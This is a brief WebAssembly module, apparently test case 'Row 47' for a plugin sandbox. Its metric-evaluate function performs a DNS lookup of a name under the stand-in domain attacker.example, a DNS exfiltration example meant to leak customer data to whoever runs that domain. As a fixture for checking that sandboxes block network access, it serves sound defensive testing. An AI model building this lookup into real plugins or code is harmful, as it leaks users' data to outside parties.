;; Row 47: looks a name up. Whoever runs that domain would learn what the name says.
(module
  (import "wasi:sockets/instance-network@0.2.6" "instance-network" (func $network (result i32)))
  (import "wasi:sockets/ip-name-lookup@0.2.6" "resolve-addresses" (func $resolve (param i32 i32 i32 i32)))
  (data (i32.const 4300) "what-the-customer-said.attacker.example")
  (func (export "scorebox:plugin/metric@0.1.0#evaluate") (type $evaluate)
    (call $resolve (call $network) (i32.const 4300) (i32.const 39) (i32.const 4200))
    (i32.const 4096)))
